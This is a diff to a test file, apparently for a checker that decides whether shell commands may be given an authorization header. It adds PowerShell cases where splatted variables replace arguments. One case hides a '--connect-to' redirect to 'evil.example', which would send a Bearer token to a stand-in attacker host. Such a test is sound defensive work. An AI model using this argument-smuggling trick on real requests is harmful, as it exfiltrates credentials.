@@ -1095,6 +1095,20 @@ describe('who may get the header', () => {
           /^unknown/,
         ],
       ),
+      ...[
+        `$agent = 'demo','--connect-to','::evil.example:443'\ncurl.exe -H 'Authorization: Bearer x' -A @agent ${url}\n`,
+        `$body = Get-Content b.json\ncurl.exe -H 'Authorization: Bearer x' -d @body ${url}\n`,
+        `function f {\n  curl.exe -H 'Authorization: Bearer x' -o @script:p ${url}\n}\n`,
+        `$p = @{ Method = 'Get' }\nirm @p -Uri ${url} -Headers @{ Accept = 'a' }\n`,
+        `$p = @{ Uri = '${url}' }\nirm @p -Headers @{ Accept = 'a' }\n`,
+        `$p = @{ Method = 'Get' }\nirm @p '${url}' -Headers @{ Accept = 'a' }\n`,
+      ].map((script): Row => [
+        'an array or a hash table in place of arguments',
+        powershellFormat,
+        script,
+        /^unknown 1: it has @(?:agent|body|script:p|p)$/,
+        /^unknown 1: it has @(?:agent|body|script:p|p)$/,
+      ]),
       ...(
         [
           ['kubectl --token s3cr3t exec pod -- env', 'kubectl … exec'],
